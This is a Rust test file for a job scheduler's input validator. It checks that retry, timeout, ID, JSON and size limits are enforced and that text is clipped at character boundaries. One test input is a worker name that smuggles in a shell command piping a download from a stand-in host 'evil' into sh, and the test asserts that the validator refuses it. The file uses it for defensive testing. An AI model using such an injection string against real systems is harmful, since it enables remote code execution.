//! Each limit, at its edge and one past it, and clipping. That the largest job fits one Raft
//! entry and one AppendEntries message is tested on the Raft side (`raft/network/limits_tests.rs`).

use std::collections::BTreeMap;

use super::*;
use crate::state::command::{Assignment, FaultCategory, Outcome, WorkerStatus};
use crate::state::machine::tests::spec;

fn at() -> Timestamp {
    Timestamp(1_700_000_000_000_000)
}

fn job(tasks: Vec<TaskSpec>) -> Command {
    Command::SubmitJob {
        job: "j".to_string(),
        name: "j".to_string(),
        tasks,
        at: at(),
    }
}

fn with(change: impl FnOnce(&mut TaskSpec)) -> Command {
    let mut s = spec("t");
    change(&mut s);
    job(vec![s])
}

fn finish(attempt: u32, duration_ms: u64, at: Timestamp) -> Command {
    Command::FinishTask {
        task: "t".to_string(),
        attempt,
        worker: "w1".to_string(),
        outcome: Outcome::Passed,
        exit_code: Some(0),
        duration_ms,
        output_tail: String::new(),
        at,
    }
}

fn register(worker: &str, capabilities: &str) -> Command {
    Command::RegisterWorker {
        worker: worker.to_string(),
        host: "h".to_string(),
        address: String::new(),
        capabilities_json: capabilities.to_string(),
        labels: BTreeMap::new(),
        at: at(),
    }
}

#[test]
fn values_within_the_limits_pass_and_one_past_them_are_refused_naming_the_limit() {
    let ok: Vec<Command> = vec![
        with(|s| s.flaky_retries = MAX_RETRIES),
        with(|s| s.timeout_ms = MAX_TIMEOUT_MS),
        finish(MAX_ATTEMPT, i64::MAX as u64, Timestamp(MAX_TIMESTAMP_US)),
        finish(1, 0, Timestamp(0)),
        register(
            &"w".repeat(MAX_WORKER_ID_BYTES),
            r#"{"gpu": {"name": "x"}}"#,
        ),
        register("host-1.example_org", "{}"),
    ];
    for command in &ok {
        assert_eq!(check(command), Ok(()), "{command:?}");
    }
    let refused: Vec<(Command, &str)> = vec![
        (
            with(|s| s.flaky_retries = u32::MAX),
            "flaky_retries of task t is 4294967295, more than the limit of 100",
        ),
        (with(|s| s.max_retries = MAX_RETRIES + 1), "max_retries"),
        (
            with(|s| s.timeout_ms = MAX_TIMEOUT_MS + 1),
            "the timeout (ms) of task t",
        ),
        (with(|s| s.timeout_ms = 0), "timeout of task t is 0"),
        (with(|s| s.command = vec![]), "empty command"),
        (with(|s| s.command.push("a\0b".into())), "NUL"),
        (
            with(|s| {
                s.env.insert("A=B".into(), "x".into());
            }),
            "has no '='",
        ),
        (with(|s| s.id = "x".repeat(MAX_ID_BYTES + 1)), "task id is"),
        (job(vec![]), "has no tasks"),
        (finish(1 << 31, 0, at()), "the attempt number is 2147483648"),
        (finish(1, u64::MAX, at()), "the duration (ms)"),
        (
            finish(1, 0, Timestamp(i64::MAX)),
            "outside the storable range",
        ),
        (finish(1, 0, Timestamp(-1)), "outside the storable range"),
        (register("x; curl evil | sh #", "{}"), "contains ';'"),
        (register("", "{}"), "worker name is empty"),
        (
            register(&"w".repeat(MAX_WORKER_ID_BYTES + 1), "{}"),
            "worker name is 65 bytes",
        ),
        (register("w1", "[1]"), "must be a JSON object"),
        (register("w1", "{oops"), "not valid JSON"),
        (
            Command::RecordSystemRecovery {
                system_status: "critical".into(),
                success: true,
                affected_workers: u32::MAX,
                affected_tasks: 0,
                details_json: "{}".into(),
                at: at(),
            },
            "affected worker count",
        ),
        (
            Command::HealthSample {
                node: u64::MAX,
                cpu: 0.5,
                mem_bytes: 0,
                disk_free_bytes: 0,
                net_errors: 0,
                error_rate: 0.0,
                at: at(),
            },
            "the node id",
        ),
        (
            Command::AssignTasks {
                term: u64::MAX,
                at: at(),
                assignments: vec![Assignment {
                    task: "t".into(),
                    worker: "w1".into(),
                    attempt: 1,
                }],
            },
            "the term",
        ),
        (
            Command::FailWorker {
                worker: "w1".into(),
                from: WorkerStatus::Healthy,
                reason: "lost".into(),
                category: FaultCategory::Crash,
                requeue: true,
                details_json: "null".into(),
                at: at(),
            },
            "failure details must be a JSON object",
        ),
        (
            Command::Batch(vec![Command::Batch(vec![])]),
            "may not contain another batch",
        ),
        (
            Command::Bench {
                payload: vec![0; MAX_BENCH_PAYLOAD + 1],
            },
            "bench payload",
        ),
    ];
    for (command, needle) in refused {
        let why = check(&command).expect_err(&format!("{} must be refused", command.kind()));
        assert!(why.contains(needle), "{why:?} does not say {needle:?}");
    }
}

#[test]
fn a_job_past_the_task_count_or_size_is_refused_with_a_way_out() {
    let many: Vec<TaskSpec> = (0..=MAX_TASKS_PER_JOB)
        .map(|i| spec(&format!("t{i}")))
        .collect();
    let why = check(&job(many)).unwrap_err();
    assert!(
        why.contains("100000") && why.contains("several jobs"),
        "{why}"
    );

    let mut big = spec("big");
    big.env
        .insert("BLOB".into(), "x".repeat(MAX_TASK_BYTES / 2));
    let tasks: Vec<TaskSpec> = (0..MAX_JOB_BYTES / (MAX_TASK_BYTES / 2) + 1)
        .map(|i| TaskSpec {
            id: format!("big{i}"),
            ..big.clone()
        })
        .collect();
    let why = check(&job(tasks)).unwrap_err();
    assert!(
        why.contains("the size of job j") && why.contains("several jobs"),
        "{why}"
    );

    big.env
        .insert("MORE".into(), "x".repeat(MAX_TASK_BYTES / 2));
    let why = check(&job(vec![big])).unwrap_err();
    assert!(why.contains("the size of task big"), "{why}");
}

#[test]
fn prose_is_clipped_at_a_character_boundary_and_output_keeps_its_end() {
    let mut command = Command::RequeueTask {
        task: "t".into(),
        attempt: 1,
        reason: "é".repeat(MAX_REASON_BYTES),
        category: FaultCategory::Crash,
        at: at(),
    };
    normalize(&mut command);
    let Command::RequeueTask { reason, .. } = &command else {
        unreachable!()
    };
    assert_eq!(reason.len(), MAX_REASON_BYTES);
    assert!(reason.chars().all(|c| c == 'é'));

    let mut command = finish(1, 0, at());
    if let Command::FinishTask { output_tail, .. } = &mut command {
        *output_tail = format!("✓{}end", "x".repeat(MAX_OUTPUT_TAIL_BYTES));
    }
    normalize(&mut command);
    let Command::FinishTask { output_tail, .. } = &command else {
        unreachable!()
    };
    assert!(output_tail.len() <= MAX_OUTPUT_TAIL_BYTES);
    assert!(output_tail.ends_with("xend"));
}
